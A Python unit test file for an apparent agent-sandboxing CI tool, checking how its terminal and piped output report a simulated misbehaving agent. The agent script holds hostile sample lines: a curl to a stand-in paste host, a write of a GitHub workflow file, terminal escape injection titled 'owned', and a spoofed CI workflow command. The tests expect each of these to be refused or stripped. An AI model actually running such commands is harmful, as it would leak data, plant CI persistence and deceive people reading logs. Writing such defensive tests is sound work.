#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a person at a terminal sees of a run, and that a pipe gets log lines.
usage: terminal_test.py AGENTIC_CI"""
import os
import pathlib
import pty
import re
import subprocess
import sys
import tempfile
import unittest

BINARY = pathlib.Path(sys.argv.pop(1)).resolve()
AGENT = r'''
printf 'I say \033[2J\033]0;owned\007 hello\n'
curl -s -m 5 https://paste.example.com/upload
mkdir -p .github/workflows; echo on: push >.github/workflows/x.yml
sleep 1.5
printf '::add-mask::x\n'
'''
ESCAPES = re.compile(rb'\x1b\[[0-9;]*m|\r\x1b\[2K|\x1b\]8;;[^\x07\x1b]*\x1b\\')


class Terminal(unittest.TestCase):
    def setUp(self):
        self.directory = tempfile.TemporaryDirectory()
        self.addCleanup(self.directory.cleanup)
        for command in (['init', '-q', '-b', 'main'],
                        ['-c', 'user.name=a', '-c', 'user.email=a@example.com', 'commit', '-q', '--allow-empty', '-m', 'x']):
            subprocess.run(['git', *command], cwd=self.directory.name, check=True)

    def run_agent(self, **environment):
        """What the terminal gets, and the exit status."""
        env = {'PATH': os.environ['PATH'], 'HOME': self.directory.name, 'TERM': 'xterm', **environment}
        child, terminal = pty.fork()
        if child == 0:
            os.chdir(self.directory.name)
            os.execve(BINARY, [BINARY, 'run', '--report-dir', 'r', '--', 'sh', '-c', AGENT], env)
        shown = b''
        while True:
            try:
                piece = os.read(terminal, 65536)
            except OSError:  # EIO: the other side is gone.
                break
            if not piece:
                break
            shown += piece
        os.close(terminal)
        return shown, os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])

    def test_a_terminal_gets_requests_as_they_are_judged(self):
        shown, status = self.run_agent()
        self.assertEqual(status, 77, shown)
        self.assertIn('\x1b[31m✗\x1b[0m paste.example.com:443'.encode(), shown)
        text = ESCAPES.sub(b'', shown).decode()
        self.assertLess(text.index('paste.example.com:443'), text.index('✗ Refused'), text)
        self.assertRegex(text, r'0 allowed, 1 refused \| \d')
        self.assertIn('protected path .github/workflows/x.yml. Nothing was applied.', text)
        self.assertIn('│ I say', text)
        self.assertIn(b'\x1b]8;;file:///', shown)
        # Of the agent, no escape is left, and no line that a CI would obey.
        self.assertNotIn('\x1b', text)
        self.assertNotIn('\x07', text)
        self.assertNotIn('\n::', text)
        self.assertNotIn('agentic-ci: info:', text)

    def test_no_colour_where_none_is_wanted(self):
        shown, status = self.run_agent(NO_COLOR='1')
        self.assertEqual(status, 77, shown)
        self.assertNotIn(b'\x1b', shown.replace(b'\r\x1b[2K', b''))
        self.assertIn('✗ '.encode(), shown)

    def test_a_dumb_terminal_and_a_pipe_get_log_lines(self):
        shown, _ = self.run_agent(TERM='dumb')
        self.assertNotIn(b'\x1b', shown)
        self.assertIn(b'agentic-ci: info: run ended outcome=refused', shown)
        done = subprocess.run([BINARY, 'run', '--report-dir', 'r', '--', 'sh', '-c', AGENT], cwd=self.directory.name,
                              capture_output=True, env={'PATH': os.environ['PATH'], 'TERM': 'xterm'}, check=False)
        self.assertEqual(done.returncode, 77)
        self.assertNotIn(b'\x1b', done.stderr)
        self.assertEqual(done.stdout, b'I say \x1b[2J\x1b]0;owned\x07 hello\n::add-mask::x\n')  # A program's to read.
        self.assertIn(b'agentic-ci: warn: refused host=paste.example.com', done.stderr)


if __name__ == '__main__':
    unittest.main(verbosity=2)
